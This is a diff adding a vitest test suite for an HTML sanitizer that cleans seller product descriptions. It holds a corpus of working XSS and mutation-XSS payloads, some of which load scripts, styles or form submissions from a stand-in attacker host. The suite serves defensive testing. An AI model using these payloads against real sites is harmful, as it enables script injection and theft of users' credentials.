@@ -1,0 +1,97 @@
+import fc from 'fast-check'
+import { describe, expect, test } from 'vitest'
+import { htmlOfText, sellerHtml } from './seller-html.ts'
+
+/** Known XSS and mutation-XSS texts; each must leave no way to run, load or send anything. */
+const corpus = [
+  '<script>alert(1)</script>',
+  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
+  '<img src=x onerror=alert(1)>',
+  '<svg><g onload=alert(1)></g></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
+  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<iframe><textarea></iframe><img src onerror=alert(1)></textarea>',
+  '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
+  '<title><a href="</title><img src onerror=alert(1)>">x</a></title>',
+  '<select><style></select><img src onerror=alert(1)></style></select>',
+  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVa\tScRiPt:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href="java&#x0A;script:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="//evil.example">x</a>',
+  '<a href="/ok" onclick="alert(1)" style="position:fixed">x</a>',
+  '<p style="background:url(javascript:alert(1))" onmouseover=alert(1)>x</p>',
+  '<style>@import url(//evil.example)</style>',
+  '<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example>',
+  '<form action=//evil.example><input name=password><button formaction="javascript:alert(1)">go</button></form>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[><img src=x onerror=alert(1)>]]>',
+  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
+  '<div id="x" name="y" class="z">clobber</div>',
+  '<<img src=x onerror=alert(1)>script>alert(1)</script>',
+  '<p title="`onmouseover=alert(1)">x</p>',
+  '\u003cimg src=x onerror=alert(1)\u003e',
+  '&lt;img src=x onerror=alert(1)&gt;',
+  '<plaintext><img src=x onerror=alert(1)>',
+  '<table><svg><style><a title="</style><img src onerror=alert(1)>">',
+]
+
+const allowedTag =
+  /^<(?:\/?(?:p|div|h[2-6]|blockquote|pre|b|strong|i|em|u|s|small|sub|sup|code|span|ul|ol|li|dl|dt|dd|table|caption|thead|tbody|tfoot|tr)|\/(?:a|th|td)|(?:br|hr) \/|a(?: (?:href="(?:https?:|mailto:|[^":]*")[^"<>]*"?|title="[^"<>]*"|rel="nofollow noopener"))*|(?:th|td)(?: (?:colspan|rowspan|scope)="[^"<>]*")*)>$/
+
+function expectHarmless(html: string) {
+  for (const tag of html.match(/<[^>]*>?/g) ?? []) expect(tag).toMatch(allowedTag)
+}
+
+describe('[security 5] seller HTML', () => {
+  test.each(corpus)('leaves nothing that runs of %s', (text) => {
+    const clean = sellerHtml(text)
+    expectHarmless(clean)
+    expect(clean).not.toMatch(/<[^>]*(?:javascript:|vbscript:|data:|\son\w+\s*=|style=)/i)
+    expect(sellerHtml(clean)).toBe(clean)
+  })
+
+  test('keeps what describes goods, and marks links', () => {
+    const text =
+      '<h2>Uses</h2><ul><li><b>Dry</b> &amp; wet</li></ul><table><tr><th scope="row">Ø</th><td colspan="2">8 mm</td></tr></table>'
+    expect(sellerHtml(text)).toBe(text)
+    expect(sellerHtml('<a href="/product/x">more</a>')).toBe('<a href="/product/x" rel="nofollow noopener">more</a>')
+    expect(sellerHtml('<h1>Big</h1>')).toBe('<h2>Big</h2>')
+  })
+
+  test('cleaning twice changes nothing, whatever comes in', () => {
+    const piece = fc.oneof(
+      fc.constantFrom(...corpus),
+      fc.string(),
+      fc.constantFrom('<p>', '</p>', '<b', '"', "'", '>', '<', '&', '&lt;', '-->', ']]>'),
+    )
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
+        const clean = sellerHtml(pieces.join(''))
+        expectHarmless(clean)
+        expect(sellerHtml(clean)).toBe(clean)
+      }),
+    )
+  })
+
+  test('plain text of a feed becomes paragraphs, HTML stays HTML', () => {
+    expect(htmlOfText('Cuts 3 < 4 & more\nsecond line\n\nNext')).toBe(
+      '<p>Cuts 3 &lt; 4 &amp; more<br />second line</p><p>Next</p>',
+    )
+    expect(htmlOfText(' <p>As it is</p> ')).toBe('<p>As it is</p>')
+    expect(htmlOfText('  ')).toBe('')
+  })
+})
